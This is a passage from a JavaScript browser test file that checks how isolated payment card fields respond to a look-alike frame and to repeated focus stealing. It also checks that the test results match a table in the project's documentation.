    assert.equal(await it.page.evaluate(() => document.querySelector('#card').state), 'failed');
    note('puts a look-alike into the frame', '—', 'nothing of before; the element reports `network_failed`');
    await it.close();
  });

  test('takes the focus a second time: the fields close', async () => {
    const it = await all.open(true);
    for (const _ of [1, 2]) {
      await it.field('number').click();
      await it.page.keyboard.type('4539 1488');
      await it.page.evaluate(() => document.querySelector('#email').focus());
      await until('the fields to be empty', async () => (await it.field('number').inputValue()) === '');
    }
    assert.equal(await it.field('number').isDisabled(), true);
    await it.page.waitForFunction(() => document.querySelector('#card').state === 'failed');
    note('takes the focus again and again', '—', 'the fields close');
    await it.close();
  });

  test('the table in the documentation is what was found here', () => {
    const written = readFileSync(new URL('../../docs/isolated-fields.md', import.meta.url), 'utf8');
    const lines = rows.map(({ name, page, frame }) => ` | ${name} | ${page} | ${frame} |\n`);
    console.log(lines.join(''));
    if (engine !== 'Chromium') {
      // WebDriver gives names in another order.
      assert.deepEqual(
        lines.filter((line) => !written.includes(line)),
        [],
        'other rows than in docs/isolated-fields.md',
      );
      assert.equal(lines.length, [...written.matchAll(/^\| \d+ \|/gm)].length);
      return;
    }
    const head = '| | the script … | from the form in the page it gets | from the frame |\n|---:|---|---|---|\n';
    const table = head + lines.map((line, at) => `| ${at + 1}${line}`).join('');
    assert.ok(written.includes(table), 'docs/isolated-fields.md has another table than the one above');
  });
}
